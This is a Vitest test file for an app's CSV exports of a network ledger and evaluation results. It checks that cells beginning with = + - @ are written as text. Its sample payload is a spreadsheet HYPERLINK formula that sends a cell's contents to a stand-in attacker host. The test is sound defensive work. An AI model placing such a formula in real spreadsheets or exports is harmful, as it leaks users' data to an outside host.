// CSV exports neutralise spreadsheet formulas (issue 23, item 5): a cell that starts with = + - @ (a question from
// a data set, a model's answer, a host name in the network ledger) is written with a leading ' so a spreadsheet
// shows it as text instead of running it.
import { describe, expect, it, vi } from 'vitest';
import Papa from 'papaparse';
import type { EvalResult } from '../../../src/services/questions/evalProtocol.ts';
import type { LedgerEntry } from '../../../src/store/ledgerStore.ts';

// The page modules read `location` when loaded (the worker URLs); in Node it is given before they are imported.
vi.stubGlobal('location', new URL('http://127.0.0.1/'));
const { ledgerCsv } = await import('../../../src/ui/ledger/ledgerState.svelte.ts');
const { resultCsv } = await import('../../../src/ui/eval/evalState.svelte.ts');

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('CSV exports', () => {
  it('the network ledger writes a formula-looking cell as text', () => {
    const entry = {
      id: 'x',
      at: '2026-01-01T00:00:00.000Z',
      method: 'POST',
      origin: 'http://127.0.0.1:1',
      host: FORMULA,
      path: '/v1/chat/completions',
      purpose: 'answer',
      source: 'query',
      bytesOut: 1,
      bytesIn: 1,
      status: 200,
      ms: 1,
    } as unknown as LedgerEntry;
    const rows = Papa.parse<string[]>(ledgerCsv([entry])).data;
    const cell = rows[1][rows[0].indexOf('host')];
    expect(cell).toBe(`'${FORMULA}`);
  });

  it('the evaluation writes questions and answers that start with = + - @ as text', () => {
    const result = {
      set: 's',
      modes: ['bm25'],
      budgets: [100],
      ks: [2],
      questions: 1,
      cancelled: false,
      startedAt: '',
      seconds: 0,
      summary: {},
      items: [
        {
          id: '@id',
          question: FORMULA,
          answers: ['+1'],
          supporting: [],
          modes: {
            bm25: { cr: [0], recall: null, ranked: [], ms: 1, answer: { text: '-2+3', em: 0, f1: 0 } },
          },
        },
      ],
    } as unknown as EvalResult;
    const [header, row] = Papa.parse<string[]>(resultCsv(result)).data;
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('question')).toBe(`'${FORMULA}`);
    expect(cell('id')).toBe("'@id");
    expect(cell('gold')).toBe("'+1");
    expect(cell('answer')).toBe("'-2+3");
  });
});
